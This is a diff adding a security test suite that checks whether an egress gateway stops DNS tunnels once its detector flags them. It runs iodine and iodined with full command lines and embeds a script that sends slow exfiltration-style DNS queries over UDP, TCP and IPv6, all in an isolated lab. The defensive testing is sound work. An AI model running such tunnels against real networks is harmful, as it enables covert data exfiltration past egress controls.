@@ -1,0 +1,169 @@
+"""Issue 9.2: a DNS tunnel under an allowed wildcard keeps going after the detector's first finding.
+
+iodine (the real tool) against an iodined the attacker runs in the internet namespace, its zone (``i1.lab``...)
+delegated by the lab authority (egress/lab/delegation.py) and allowed by a wildcard (``*.i1.lab``); and a slow
+tunnel crafted with the DNS codec (one query every 2 s under ``*.t.lab``) that goes on over TCP, over IPv6 and
+with ordinary names once found. Judged by the internet-side capture: after the finding no query under the
+domain reaches the resolver's upstream (ns.lab), iodine never completes its handshake or moves a byte, and Redis
+holds the ``dns-tunnel`` record, with the refusals of the hold counted under the base domain.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+import uuid
+
+import pytest
+
+from egress.lab.topology import GATEWAY_SBX_V4, INTERNET_V4, server
+from egress.record.schema import AttemptRecord
+from tests.security.conftest import LabFactory
+from tests.security.harness import POLICIES, Attacker, Capture, Crossed, SecurityLab, report
+from tests.waiting import eventually
+
+pytestmark = pytest.mark.security
+
+NS = server("ns").v4
+POLICY = POLICIES / "dns.yaml"
+IODINE_PORT = 5300
+IODINE_PASSWORD = "egress-lab-tunnel"
+
+
+@pytest.fixture(scope="module")
+def dns_lab(lab_factory: LabFactory) -> SecurityLab:
+    return lab_factory(POLICY)
+
+
+def _zone_bytes(zone: str) -> bytes:
+    return b"".join(bytes([len(label)]) + label.encode() for label in zone.split(".")) + b"\0"
+
+
+def _queries_to_upstream(crossed_payload: dict[tuple[str, str, int], bytes], zone: str) -> int:
+    """Queries under ``zone`` that reached ns.lab (UDP and TCP; names in any letter case)."""
+    wire = _zone_bytes(zone).lower()
+    return sum(data.lower().count(wire) for flow, data in crossed_payload.items() if flow[1] == NS and flow[2] == 53)
+
+
+@pytest.mark.parametrize(
+    ("qtype", "base"), [("NULL", "i1.lab"), ("TXT", "i2.lab"), ("CNAME", "i3.lab"), ("A", "i4.lab")]
+)
+def test_iodine_under_an_allowed_wildcard(dns_lab: SecurityLab, qtype: str, base: str) -> None:
+    zone = f"{qtype.lower()}.{base}"  # a base domain per variant: a found one stays held for the hour
+    state = dns_lab.lab.state_dir / "delegations.json"
+    state.write_text(json.dumps({base: [INTERNET_V4, IODINE_PORT]}))
+    daemon = dns_lab.attacker(
+        f"iodined-{qtype}",
+        ["iodined", "-f", "-c", "-P", IODINE_PASSWORD, "-l", INTERNET_V4, "-p", str(IODINE_PORT),
+         "-d", "dnsi0", "10.99.0.1/27", zone],
+    )  # fmt: skip
+    daemon.wait_for("Listening to dns for domain")
+    since = time.time()
+    argv = ["iodine", "-f", "-r", "-T", qtype, "-P", IODINE_PASSWORD, "-d", "dnsc0", GATEWAY_SBX_V4, zone]
+    with dns_lab.capture(f"iodine-{qtype}-first") as capture:
+        first = dns_lab.attacker(f"iodine-{qtype}", argv, where="sandbox")
+        _ends(first, daemon)
+    before = _queries_to_upstream(_result(capture).payload, base)
+    with dns_lab.capture(f"iodine-{qtype}-again") as capture:
+        again = dns_lab.attacker(f"iodine-{qtype}-again", argv, where="sandbox")  # the agent simply retries
+        _ends(again, daemon)
+        dig = dns_lab.sandbox(["dig", f"@{GATEWAY_SBX_V4}", "+tries=1", "+time=3", f"www.{zone}", "A"])
+        ping = dns_lab.sandbox(["ping", "-c", "2", "-W", "1", "10.99.0.1"], timeout=10)
+    held = _result(capture)
+    after = _queries_to_upstream(held.payload, base)
+    leaked = sum(len(data) for flow, data in held.payload.items() if flow[1] == NS) if after else 0
+    logs = first.log() + again.log()
+    goal = "Connection setup complete" in logs or ping.returncode == 0
+
+    def counted(record: AttemptRecord) -> bool:
+        return record.host == base and record.reason == "dns-tunnel" and record.count > 1
+
+    records = dns_lab.records_until(since, lambda rs: any(counted(r) for r in rs))
+    held_record = next(r for r in records if counted(r))
+    note = f"{before} queries before the finding; {held_record.count} refused in the record"
+    report(f"dns/iodine-{qtype}", "dns-tunnel", leaked, goal, held_record.reason, note)
+    daemon.stop()
+    assert after == 0, held.table()
+    assert not goal, logs[-3000:]
+    assert "status: REFUSED" in dig.stdout, dig.stdout
+
+
+def _result(capture: Capture) -> Crossed:
+    assert capture.result is not None
+    return capture.result
+
+
+def _ends(client: Attacker, daemon: Attacker) -> None:
+    """Wait until iodine gives up (it does once every query is refused); stop it if it has not within the time."""
+
+    def ended() -> bool:
+        assert client.process.poll() is not None, f"iodine still trying: {client.log()[-300:]}"
+        return True
+
+    try:
+        eventually(ended, timeout=120.0, interval=0.5)
+    except AssertionError:
+        client.stop()
+    assert "Connection setup complete" not in client.log(), f"{client.log()[-2000:]}\n{daemon.log()[-1000:]}"
+
+
+SLOW = r"""
+import socket, struct, sys, time
+from egress.detect import dns
+marker, gateway, gateway6 = sys.argv[1], sys.argv[2], sys.argv[3]
+
+def ask(name, qtype=dns.A, server=gateway, tcp=False):
+    query = dns.build_query(7, name, qtype)
+    family = socket.AF_INET6 if ":" in server else socket.AF_INET
+    with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
+        sock.settimeout(5)
+        if tcp:
+            sock.connect((server, 53))
+            sock.sendall(dns.tcp_frame(query))
+            length = struct.unpack(">H", sock.recv(2))[0]
+            data = b""
+            while len(data) < length:
+                data += sock.recv(length - len(data))
+        else:
+            sock.sendto(query, (server, 53))
+            data = sock.recv(65535)
+    return dns.parse(data).rcode
+
+for n in range(8):  # slow: one query every 2 s, each a new base32-looking label carrying the marker
+    print("tunnel", n, ask(f"{marker}{n:02d}abcdefghij2345.t.lab"), flush=True)
+    time.sleep(2)
+for how, name, kwargs in [
+    ("tcp", f"www{marker}.t.lab", {"tcp": True}),
+    ("ipv6", f"www{marker}.t.lab", {"server": gateway6}),
+    ("case", f"WWW{marker}.T.LAB", {}),
+    ("txt", f"mail{marker}.t.lab", {"qtype": dns.TXT}),
+]:
+    print("after", how, ask(name, **kwargs), flush=True)
+"""
+
+
+def test_slow_tunnel_stays_refused_over_every_transport(dns_lab: SecurityLab) -> None:
+    """Crafted slow exfiltration under *.t.lab; once found, ordinary names under t.lab over TCP, IPv6, in upper
+    case or of another type (from another source address: state is the sandbox's) never reach ns.lab."""
+    marker = "m" + uuid.uuid4().hex[:8]
+    since = time.time()
+    with dns_lab.capture("dns-slow-tunnel") as capture:
+        done = dns_lab.sandbox_python(SLOW, marker, GATEWAY_SBX_V4, "fd00:203:1::1", timeout=90)
+    crossed = capture.result
+    assert crossed is not None
+    lines = [line.split() for line in done.stdout.splitlines()]
+    rcodes = [int(words[-1]) for words in lines if words and words[0] in ("tunnel", "after")]
+    after = [int(words[-1]) for words in lines if words and words[0] == "after"]
+    passed = [data.lower().count(marker.encode()) for flow, data in crossed.payload.items() if flow[1] == NS]
+    reason = dns_lab.reason_of(since, lambda r: r.reason == "dns-tunnel" and "t.lab" in r.host)
+    crossed_after = sum(
+        data.lower().count(f"www{marker}".encode()) + data.lower().count(f"mail{marker}".encode())
+        for data in crossed.payload.values()
+    )
+    leaked = crossed_after * (len(marker) + 4)
+    report("dns/slow-tunnel-hold", "dns-tunnel", leaked, crossed_after > 0, reason, f"{sum(passed)} before the finding")
+    assert len(rcodes) == 12, done.stdout + done.stderr
+    assert 5 in rcodes[:8], done.stdout  # the slow tunnel itself is found
+    assert after == [5, 5, 5, 5], done.stdout
+    assert crossed_after == 0, crossed.table()
+    assert reason == "dns-tunnel"
